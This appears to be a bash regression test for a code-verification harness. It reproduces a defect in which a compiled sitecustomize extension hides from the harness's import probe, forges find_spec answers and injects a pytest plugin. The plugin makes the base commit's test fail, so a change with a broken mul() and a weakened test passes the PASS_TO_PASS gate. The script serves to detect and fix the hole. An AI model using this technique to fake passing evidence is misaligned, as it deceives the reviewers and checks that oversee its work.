#!/usr/bin/env bash
# Defect: the import probe (harness/evidence/import_probe.py START) claims no code of the checkout runs in it: its
#   audit hook refuses every file *opened* in the checkout before site.main(). An extension module is loaded with
#   dlopen, which raises no `open` audit event, so a `sitecustomize.<EXT_SUFFIX>.so` the change puts in src/ (on the
#   import path through the editable install's .pth) is imported by site.main() inside the probe. It patches
#   importlib.util.find_spec so the probe (RESOLVE) says "sitecustomize is not found"; tree_imports.hide_checkout_only
#   then hides nothing, and the base run of PASS_TO_PASS (base_cases_at, worktree of the base commit) imports the
#   change's sitecustomize from the checkout: the base is measured on the change's code. Here it makes the base's
#   test_mul fail at the base, so the change's broken mul() (and weakened test) loses nothing: PASS_TO_PASS passes.
# Correct: no code of the checkout runs in the probe (e.g. refuse/record the `import` audit event, or any extension
#   module / file under the guarded trees, or ask find_spec-free questions); the checkout-only sitecustomize is hidden
#   (or the run refused), the base's test_mul passes at the base and is reported lost.
# Exit 1 while the defect is present, 0 when fixed, 2 on setup failure.
here=$(cd "$(dirname "$0")/../.." && pwd); export PATH="$here/.venv/bin:$PATH"
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
command -v gcc >/dev/null || { echo "setup: gcc needed"; exit 2; }
T=$(mktemp -d) || exit 2; trap 'rm -rf "$T"' EXIT
export HOME="$T/home"; mkdir -p "$HOME"
SUITE_SITE=$("$here"/.venv/bin/python -c "import site; print(site.getsitepackages()[0])") || exit 2

# scenario NAME FORGE -> prints "<rc of pass_to_pass> <lost cases>"
scenario() {
  local R="$T/$1/repo" V="$T/$1/venv" FORGE=$2
  mkdir -p "$R" && cd "$R" || return 2
  "$here"/.venv/bin/python -m venv --without-pip "$V" || return 2
  local PY="$V/bin/python" SITE
  SITE=$("$PY" -c "import site; print(site.getsitepackages()[0])") || return 2
  echo "import site; site.addsitedir('$SUITE_SITE')" > "$SITE/zz-suite.pth"
  mkdir -p "$SITE/calcpkg-0.1.dist-info"
  printf 'Metadata-Version: 2.1\nName: calcpkg\nVersion: 0.1\n' > "$SITE/calcpkg-0.1.dist-info/METADATA"
  echo "$R/src" > "$SITE/_calcpkg.pth"          # the editable install (pip/hatchling: a .pth naming src/)
  mkdir -p src/calcpkg tests; : > src/calcpkg/__init__.py
  printf 'def add(a, b):\n    return a + b\n\n\ndef mul(a, b):\n    return a * b\n' > src/calcpkg/calc.py
  printf 'from calcpkg.calc import add, mul\n\n\ndef test_add():\n    assert add(2, 3) == 5\n\n\ndef test_mul():\n    assert mul(2, 3) == 6\n' > tests/test_calc.py
  printf '[project]\nname = "calcpkg"\nversion = "0.1"\n' > pyproject.toml
  printf '__pycache__/\n.harness/local/\n' > .gitignore
  ( git init -q -b main && harness init && harness install ) >/dev/null 2>&1 || return 2
  "$here"/.venv/bin/python - "$PY" <<'PYEOF' || return 2
import sys, yaml
c = yaml.safe_load(open(".harness/config.yaml"))
c["evidence"] = {"unit_test": {"command": [sys.argv[1], "-m", "pytest", "-q", "-p", "no:cacheprovider",
                 "--junitxml=.harness/local/junit.xml"], "junit": ".harness/local/junit.xml"}}
yaml.safe_dump(c, open(".harness/config.yaml", "w"), sort_keys=False)
g = yaml.safe_load(open(".harness/gate.yaml"))
g["gate"]["verification"]["pass_to_pass"] = "required"
g["gate"]["suite"] = {"paths": ["tests/**", "**/conftest.py", "pytest.ini", "pyproject.toml"]}
yaml.safe_dump(g, open(".harness/gate.yaml", "w"), sort_keys=False)
PYEOF
  ( git add -A && git commit -qm init ) >/dev/null 2>&1 || return 2
  local TID; TID=$(harness task new "Make mul faster" 2>/dev/null) || return 2
  # the dishonest change: mul broken, its test weakened, and a compiled sitecustomize in src/
  sed -i 's/return a \* b/return a + b/' src/calcpkg/calc.py
  sed -i 's/== 6/== 5/' tests/test_calc.py
  cat > "$T/$1/payload.py" <<PY
import sys, os
if sys.flags.no_site and $FORGE:          # inside the harness's probe (python -S): answer "not found"
    import importlib.util as _u
    _orig = _u.find_spec
    def _fs(name, package=None):
        return None if name in ('sitecustomize', 'usercustomize') else _orig(name, package)
    _u.find_spec = _fs
elif not sys.flags.no_site:               # any run: a plugin that fails test_mul where mul() is still correct
    import types
    _m = types.ModuleType('zzforge')
    exec('''
import os
def pytest_runtest_setup(item):
    calc = os.path.join(str(item.config.rootpath), "src", "calcpkg", "calc.py")
    if item.name == "test_mul" and os.path.exists(calc) and "return a * b" in open(calc).read():
        raise AssertionError("the base made to fail by the change's sitecustomize")
''', _m.__dict__)
    sys.modules['zzforge'] = _m
    os.environ['PYTEST_PLUGINS'] = 'zzforge'
PY
  "$here"/.venv/bin/python - "$T/$1/payload.py" "$T/$1/sc.c" <<'PYEOF' || return 2
import sys, json
src = open(sys.argv[1]).read()
open(sys.argv[2], "w").write('#include <Python.h>\nstatic struct PyModuleDef d = {PyModuleDef_HEAD_INIT, "sitecustomize", NULL, -1, NULL};\n'
  'PyMODINIT_FUNC PyInit_sitecustomize(void) { PyRun_SimpleString(' + json.dumps(src) + '); return PyModule_Create(&d); }\n')
PYEOF
  local INC EXT
  INC=$("$PY" -c "import sysconfig;print(sysconfig.get_paths()['include'])") || return 2
  EXT=$("$PY" -c "import sysconfig;print(sysconfig.get_config_var('EXT_SUFFIX'))") || return 2
  gcc -shared -fPIC -I"$INC" "$T/$1/sc.c" -o "src/sitecustomize$EXT" || return 2
  local rc=0; harness evidence pass_to_pass > "$T/$1/p2p.out" 2>&1 || rc=$?
  local lost; lost=$("$here"/.venv/bin/python -c "
import json,sys
try: o=json.load(open(sys.argv[1]))['pass_to_pass']
except Exception: print('-'); sys.exit()
print(','.join(i['case'] for i in o.get('lost',[])) or 'none', 'base_passed=%s' % o.get('base_passed'))" \
    "$R/.harness/tasks/$TID/evidence/pass_to_pass.json")
  echo "$rc $lost"
}

ctl=$(scenario control 0) || { echo "setup failed"; exit 2; }
echo "control (the same sitecustomize.so, not forging the probe): pass_to_pass exit/lost: $ctl"
case "$ctl" in "1 tests.test_calc::test_mul"*) ;; *) echo "setup: the control did not lose test_mul"; exit 2;; esac
res=$(scenario attack 1) || { echo "setup failed"; exit 2; }
echo "attack  (sitecustomize.so patches find_spec inside the probe):  pass_to_pass exit/lost: $res"
case "$res" in
  "0 none"*) echo "DEFECT: the change's extension-module sitecustomize ran inside the import probe, forged its answer, and then ran in the base's run: test_mul 'failed at the base', PASS_TO_PASS passed with mul() broken"; exit 1;;
  2\ *|"1 tests.test_calc::test_mul"*) echo "OK: refused, or the base's test_mul was measured on the base and reported lost"; exit 0;;
  *) echo "unexpected: $res"; exit 2;;
esac
